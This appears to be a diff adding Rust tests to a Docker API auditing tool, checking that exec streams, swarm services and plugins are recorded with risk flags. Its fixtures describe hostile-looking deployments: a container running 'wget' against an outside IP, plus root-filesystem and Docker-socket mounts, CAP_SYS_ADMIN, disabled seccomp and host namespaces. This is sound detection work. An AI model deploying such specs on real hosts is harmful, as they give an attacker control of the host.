@@ -1,4 +1,4 @@
-use tw_model::{ContainerAction, Direction, Risk};
+use tw_model::{ContainerAction, DeployKind, Direction, Risk};
 use tw_proto::{BodyEnd, HttpEventKind};
 
 use super::{Conn, DAEMON, Driver};
@@ -276,4 +276,160 @@ fn huge_json_is_read_up_to_its_limit() {
     create(&mut driver, &huge);
     assert_eq!(driver.containers()[0].image.as_deref(), Some("a"));
     assert_eq!(driver.api.counters().json_malformed, 1);
+}
+
+/// Streams of calls that hand their connection over, with 101 and with 200.
+#[test]
+fn a_stream_is_counted_whatever_it_says() {
+    use tw_model::{StreamFraming, StreamUse};
+    let request = b"GET /v1.41/info HTTP/1.1\r\nHost: phantom\r\n\r\n";
+    let frames = b"\x01\0\0\0\0\0\0\x03out\x02\0\0\0\0\0\0\x02no";
+    let raw = [("content-type", "application/vnd.docker.raw-stream")];
+    for status in [101, 200] {
+        let mut driver = Driver::new();
+        let conn = Conn::docker(1);
+        let line = "POST /v1.41/containers/box/exec";
+        let made = format!("{{\"Id\":\"{ID}\"}}");
+        driver.call(conn, 0, line, r#"{"Cmd":["sh"]}"#, 201, &made);
+        let stream = Conn::docker(2);
+        driver.request(stream, 0, &format!("POST /v1.41/exec/{ID}/start"), &[], b"{}");
+        driver.answer(stream, 0, status, &[&raw[..], DAEMON].concat(), "");
+        driver.event(stream, 0, HttpEventKind::Upgraded(tw_proto::Upgrade::Tcp));
+        let mut say = |direction, bytes| {
+            driver.event(stream, 0, HttpEventKind::Upstream { direction, bytes });
+        };
+        say(Direction::ToResponder, &request[..]);
+        say(Direction::ToOpener, &frames[..]);
+        driver.close(stream);
+        let (output_bytes, error_bytes) = (3, 2);
+        let framing = StreamFraming::Frames;
+        let seen = StreamUse { framing, input_bytes: 43, output_bytes, error_bytes, said: None };
+        let exec = driver.containers().into_iter().rfind(|e| e.stream.is_some());
+        assert_eq!(exec.and_then(|e| e.stream), Some(seen.clone()), "{status}");
+        let calls = driver.calls();
+        assert_eq!(calls.len(), 2, "what was said is no call: {calls:#?}");
+        assert_eq!(calls[1].stream, Some(seen), "{status}");
+    }
+}
+
+#[test]
+fn services_are_created_updated_and_removed() {
+    use ContainerAction::{Create, Remove, Start};
+    let spec = |mounts: &str| {
+        format!(
+            r#"{{"Name":"web","TaskTemplate":{{"ContainerSpec":{{"Image":"alpine","Args":["sh","-c",
+            "wget http://203.0.113.7/a"],"Env":["PASSWORD=hunter2"],"Mounts":[{mounts}],
+            "CapabilityAdd":["CAP_SYS_ADMIN"],"Privileges":{{"Seccomp":{{"Mode":"unconfined"}}}}}},
+            "Networks":[{{"Target":"net1"}}]}}}}"#
+        )
+    };
+    let root = r#"{"Type":"bind","Source":"/","Target":"/host"}"#;
+    let socket = r#"{"Type":"bind","Source":"/var/run/docker.sock","Target":"/s"}"#;
+    let mut driver = Driver::new();
+    let conn = Conn::docker(1);
+    let network = r#"{"Name":"host","Id":"net1","Driver":"host"}"#;
+    driver.call(conn, 0, "GET /v1.41/networks/host", "", 200, network);
+    driver.call(conn, 1, "POST /v1.41/services/create", &spec(root), 201, r#"{"ID":"sid25"}"#);
+    driver.call(conn, 2, "POST /v1.41/services/sid25/update?version=1", &spec(socket), 200, "{}");
+    driver.call(conn, 3, "DELETE /v1.41/services/web", "", 200, "");
+    driver.call(conn, 4, "GET /v1.41/services/web", "", 200, "{}");
+    driver.call(conn, 5, "POST /v1.41/services/create", &spec(root), 409, "{}");
+    let events = driver.containers();
+    let taken = events.iter().filter(|event| !event.is_refused());
+    let actions: Vec<ContainerAction> = taken.map(|event| event.action).collect();
+    assert_eq!(actions, [Create, Start, Remove], "a refused one is none");
+    assert!(events.iter().all(|event| event.kind == DeployKind::Service));
+    let created = &events[0];
+    assert_eq!(created.container_id.as_deref(), Some("sid25"));
+    assert_eq!(created.name.as_deref(), Some("web"));
+    assert_eq!(created.urls, ["http://203.0.113.7/a"]);
+    assert_eq!(created.network_mode.as_deref(), Some("host"), "by the id that the daemon told");
+    let risks = [
+        Risk::HostRootMount,
+        Risk::HostNetwork,
+        Risk::DangerousCapability,
+        Risk::NoSeccomp,
+        Risk::RootUser,
+    ];
+    assert_eq!(created.risks, risks);
+    assert!(events[1].risks.contains(&Risk::DockerSocket));
+    assert_eq!(events[2].image.as_deref(), Some("alpine"), "it repeats what was created");
+    assert!(!format!("{events:?}").contains("hunter2"));
+}
+
+#[test]
+fn plugins_are_pulled_created_and_enabled_with_what_they_are_granted() {
+    use ContainerAction::{Create, Remove, Start, Stop};
+    let granted = r#"[{"Name":"network","Value":["host"]},{"Name":"host pid namespace","Value":["true"]},
+        {"Name":"mount","Value":["/"]},{"Name":"mount","Value":["/var/run/docker.sock"]},
+        {"Name":"allow-all-devices","Value":["true"]},{"Name":"capabilities","Value":["CAP_SYS_ADMIN"]},
+        {"Name":"unheard of","Value":[7,null]},{}]"#;
+    let mut driver = Driver::new();
+    let conn = Conn::docker(1);
+    let pull = "POST /v1.41/plugins/pull?remote=reg.example%3A5000%2Fa%2Fb%3A1&name=";
+    driver.call(conn, 0, pull, granted, 200, "{\"status\":\"Download complete\"}\n");
+    driver.call(
+        conn,
+        1,
+        "POST /v1.41/plugins/reg.example:5000/a/b:1/enable?timeout=0",
+        "",
+        200,
+        "",
+    );
+    driver.call(conn, 2, "POST /v1.41/plugins/reg.example:5000/a/b:1/disable", "", 200, "");
+    driver.call(conn, 3, "DELETE /v1.41/plugins/reg.example:5000/a/b:1", "", 200, "");
+    let failed = "{\"status\":\"Pulling\"}\n{\"errorDetail\":{},\"error\":\"denied\"}\n";
+    driver.call(conn, 4, "POST /v1.41/plugins/pull?remote=x/y", granted, 200, failed);
+    let events = driver.containers();
+    let actions: Vec<ContainerAction> = events.iter().map(|event| event.action).collect();
+    assert_eq!(actions, [Create, Start, Stop, Remove, Create]);
+    assert!(events[4].is_refused(), "it failed while it was pulled");
+    let risks = [
+        Risk::HostRootMount,
+        Risk::HostPathMount,
+        Risk::DockerSocket,
+        Risk::HostPid,
+        Risk::HostNetwork,
+        Risk::DangerousCapability,
+        Risk::Device,
+        Risk::RootUser,
+    ];
+    for event in &events[..4] {
+        assert_eq!(event.kind, DeployKind::Plugin);
+        assert_eq!(event.name.as_deref(), Some("reg.example:5000/a/b:1"), "{:?}", event.action);
+        assert_eq!(event.risks, risks, "{:?}", event.action);
+    }
+    assert_eq!(events[0].image.as_deref(), Some("reg.example:5000/a/b:1"));
+}
+
+#[test]
+fn an_uploaded_plugin_says_itself_what_it_asks_for() {
+    let config = r#"{"entrypoint":["/p"],"network":{"type":"host"},"ipchost":true,"pidhost":true,
+        "mounts":[{"source":"/","destination":"/h","type":"bind"}],
+        "linux":{"capabilities":["CAP_SYS_ADMIN"],"allowAllDevices":true}}"#;
+    let archive = super::tar(&[("rootfs/p", "\x7fELF"), ("config.json", config)]);
+    let mut driver = Driver::new();
+    let conn = Conn::docker(1);
+    let line = "POST /v1.41/plugins/create?name=ops/local";
+    driver.request(conn, 0, line, &[("content-type", "application/x-tar")], &archive);
+    driver.answer(conn, 0, 204, DAEMON, "");
+    let event = driver.containers().remove(0);
+    assert_eq!(event.name.as_deref(), Some("ops/local:latest"));
+    assert_eq!(event.command, ["/p"]);
+    let risks = [
+        Risk::HostRootMount,
+        Risk::HostPid,
+        Risk::HostNetwork,
+        Risk::HostIpc,
+        Risk::DangerousCapability,
+        Risk::Device,
+        Risk::RootUser,
+    ];
+    assert_eq!(event.risks, risks);
+    for cut in (0..archive.len()).step_by(97) {
+        let mut driver = Driver::new();
+        driver.request(conn, 0, line, &[], &archive[..cut]);
+        driver.answer(conn, 0, 204, DAEMON, "");
+        assert_eq!(driver.containers().len(), 1, "cut at {cut}");
+    }
 }
